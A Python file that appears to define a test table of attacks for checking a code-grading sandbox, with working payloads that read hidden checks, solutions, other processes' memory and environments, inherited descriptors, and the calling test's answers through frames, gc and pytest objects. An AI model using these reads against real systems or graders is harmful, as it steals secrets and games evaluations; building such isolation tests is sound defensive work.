"""Reading what nobody may read: files, processes, memory, descriptors, the environment."""

from __future__ import annotations

from attacks.attack import Attack, Control


def stolen(name: str, tries: str, what: str) -> Attack:
    """Return an attack whose raid is one expression: what it reads is told."""
    return Attack(name, tries, f"\ndef raid():\n    tell({what})\n")


FILES = (
    stolen("read_hidden_checks", "opens the hidden checks", "open(PLAN['hidden']).read()"),
    stolen("read_solution", "opens the solution", "open(PLAN['solution']).read()"),
    stolen("read_labels", "opens the labels of the test data", "open(PLAN['labels']).read()"),
    stolen("read_weights", "opens the master's weights", "open(PLAN['weights'], 'rb').read()"),
    stolen("read_closed_folder", "opens a file in a folder of mode 0700",
           "open(PLAN['closed']).read()"),
    stolen("read_results", "opens the results of the last run", "open(PLAN['results']).read()"),
    stolen("read_neighbour", "opens another student's hand-in", "open(PLAN['neighbour']).read()"),
    stolen("read_posix_memory", "reads shared memory of another process in /dev/shm",
           "open(PLAN['shared']).read()"),
    Attack(
        "walk_the_course",
        "walks the folder of the course and opens every file",
        """
def raid():
    for place, _, files in _os.walk(PLAN["course"]):
        for name in files:
            tell(open(_os.path.join(place, name), errors="replace").read()[-300:])
""",
    ),
    Attack(
        "link_to_the_hidden_checks",
        "makes a symbolic and a hard link in its own folder and opens those",
        """
def raid():
    for make in (_os.symlink, _os.link):
        try:
            make(PLAN["hidden"], make.__name__)
            tell(open(make.__name__).read())
        except OSError:
            continue
""",
    ),
    Attack(
        "climb_by_descriptors",
        "opens the folder as a mere place, then the file from there",
        """
def raid():
    folder, name = _os.path.split(PLAN["hidden"])
    place = _os.open(folder, _os.O_PATH | _os.O_DIRECTORY)
    _os.chdir(folder)
    for target, at in ((name, place), (name, None), (f"/proc/self/root{PLAN['hidden']}", None)):
        try:
            tell(_os.read(_os.open(target, _os.O_RDONLY, dir_fd=at), 5000))
        except OSError:
            continue
""",
    ),
    Attack(
        "let_cat_read",
        "starts a shell that reads the files",
        """
def raid():
    import subprocess

    told = subprocess.run(["/bin/sh", "-c", f"cat {PLAN['hidden']} {PLAN['closed']}; id"],
                          capture_output=True, text=True)
    tell(told.stdout, told.stderr)
""",
    ),
    Attack(
        "import_the_solution",
        "puts the folder of the solution on the path and answers with what lies there",
        """
def raid():
    import importlib.util

    spec = importlib.util.spec_from_file_location("master", PLAN["solution"])
    master = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(master)
    globals().update({name: getattr(master, name) for name in master.__all__})
    tell(master.SECRET)


try:
    raid()
except Exception:
    pass
""",
    ),
    Attack(
        "open_by_handle",
        "asks the kernel for a file by its handle, past all folders",
        """
def raid():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    handle = (ctypes.c_uint32 * 40)(128)
    where = ctypes.c_int()
    path = PLAN["hidden"].encode()
    if libc.name_to_handle_at(-100, path, handle, ctypes.byref(where), 0) == 0:
        root = _os.open("/", _os.O_RDONLY)
        tell(_os.read(libc.open_by_handle_at(root, handle, 0), 5000))
""",
        needs="root",
    ),
)  # fmt: skip

PROCESSES = (
    Attack(
        "scan_the_environments",
        "reads the environment of every process",
        """
def raid():
    for pid in filter(str.isdigit, _os.listdir("/proc")):
        try:
            tell(*[v for v in open(f"/proc/{pid}/environ").read().split("\\0") if "canary" in v])
        except OSError:
            continue
""",
    ),
    Attack(
        "scan_the_commands",
        "reads the command of every process",
        """
def raid():
    numbers = [PLAN["keeper"], _os.getppid(), PLAN["judge"], *range(2, 400)]
    for pid in numbers:
        try:
            tell(open(f"/proc/{pid}/cmdline").read()[-200:])
        except OSError:
            continue
""",
    ),
    stolen("read_a_descriptor", "opens a descriptor of another process",
           "open(f\"/proc/{PLAN['keeper']}/fd/{PLAN['number']}\").read()"),
    Attack(
        "steal_a_descriptor",
        "takes a descriptor of another process by pidfd_getfd",
        """
def raid():
    import ctypes

    pid = _os.pidfd_open(PLAN["keeper"])
    taken = ctypes.CDLL(None).syscall(438, pid, PLAN["number"], 0)
    tell(_os.pread(taken, 200, 0))
""",
    ),
    Attack(
        "read_memory_by_proc",
        "reads the memory of another process through /proc",
        """
def raid():
    with open(f"/proc/{PLAN['keeper']}/mem", "rb") as memory:
        memory.seek(PLAN["address"])
        tell(memory.read(200))
""",
    ),
    Attack(
        "read_memory_by_call",
        "reads the memory of another process by process_vm_readv",
        """
def raid():
    import ctypes

    size = 200
    data = ctypes.create_string_buffer(size)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(data), size)
    there = (ctypes.c_size_t * 2)(PLAN["address"], size)
    ctypes.CDLL(None).process_vm_readv(PLAN["keeper"], here, 1, there, 1, 0)
    tell(data.raw)
""",
    ),
    Attack(
        "trace_a_process",
        "attaches to another process as a debugger and reads its memory",
        """
def raid():
    import ctypes

    trace = ctypes.CDLL(None).ptrace
    trace.restype = ctypes.c_long
    trace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_size_t, ctypes.c_size_t]
    if trace(16, PLAN["keeper"], 0, 0) == 0:
        _os.waitpid(PLAN["keeper"], 0x40000000)
        words = [trace(2, PLAN["keeper"], PLAN["address"] + 8 * n, 0) for n in range(20)]
        trace(17, PLAN["keeper"], 0, 0)
        tell(b"".join(word.to_bytes(8, "little", signed=True) for word in words))
""",
    ),
    Attack(
        "read_old_shared_memory",
        "attaches to a segment of System V memory that everybody may read",
        """
def raid():
    import ctypes

    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    place = libc.shmat(PLAN["segment"], None, 0o10000)
    if place != ctypes.c_void_p(-1).value:
        tell(ctypes.string_at(place, 100))
""",
    ),
)  # fmt: skip

INHERITED = (
    Attack(
        "inherited_environment",
        "prints its own environment",
        "\ndef raid():\n    tell(dict(_os.environ))\n",
        control=Control.SCRIPT,
    ),
    Attack(
        "inherited_descriptors",
        "reads from every open descriptor",
        """
def raid():
    for number in range(3, 200):
        try:
            _os.set_blocking(number, False)
            tell(_os.read(number, 60))
        except OSError:
            continue
""",
        # Among them is the wire: whoever empties or closes it answers no more.
        control=Control.SCRIPT,
    ),
    Attack(
        "own_memory",
        "searches its own memory for what the process knew before",
        """
def raid():
    for line in open("/proc/self/maps"):
        bounds, rights = line.split()[:2]
        start, end = (int(part, 16) for part in bounds.split("-"))
        if rights.startswith("rw") and end - start < 1 << 27:
            with open("/proc/self/mem", "rb", 0) as memory:
                memory.seek(start)
                data = memory.read(end - start)
                at = data.find(b"canary-environ")
                if at >= 0:
                    tell(data[at:at + 60])
""",
        control=Control.SCRIPT,
    ),
    Attack(
        "frames_of_callers",
        "looks into the local and global names of whoever calls it",
        """
def raid():
    frame = _sys._getframe()
    while frame is not None:
        for names in (frame.f_locals, frame.f_globals):
            tell(*[v for v in list(names.values()) if isinstance(v, str) and "canary" in v])
        frame = frame.f_back
""",
        control=Control.SCRIPT,
    ),
    Attack(
        "answers_in_frames",
        "finds the right answers among the names of the test that calls it",
        """
def known(name):
    frame = _sys._getframe()
    while frame is not None:
        if "ANSWERS" in frame.f_globals:
            return frame.f_globals["ANSWERS"][name]
        frame = frame.f_back
    raise NotImplementedError


def square_sum(values):
    return known("squares")


def longest(words):
    return known("longest")
""",
        control=Control.SCRIPT,
    ),
    Attack(
        "search_all_objects",
        "asks the garbage collector for every object and looks for secrets",
        """
def raid():
    import gc

    for thing in gc.get_objects():
        if isinstance(thing, dict):
            tell(*[v for v in list(thing.values()) if isinstance(v, str) and "canary-n" in v])
""",
        control=Control.SCRIPT,
    ),
    Attack(
        "borrow_the_reference",
        "finds the solution, as a module in memory, and lets it answer",
        """
def raid():
    import gc

    for thing in gc.get_objects():
        if isinstance(thing, dict) and thing.get("__name__") == "reference_sums":
            globals().update({name: thing[name] for name in thing["__all__"]})
            tell(thing["SECRET"])


def square_sum(values):
    raid()
    return globals()["square_sum"](values)
""",
        control=Control.INLINE,
    ),
    Attack(
        "objects_of_pytest",
        "finds the collected tests in pytest's own session and reads their names",
        """
def raid():
    import gc

    for thing in gc.get_objects():
        if type(thing).__name__ == "Function" and hasattr(thing, "obj"):
            tell(thing.obj.__globals__["SECRET"])
""",
        control=Control.PYTEST,
    ),
)

TABLE = FILES + PROCESSES + INHERITED
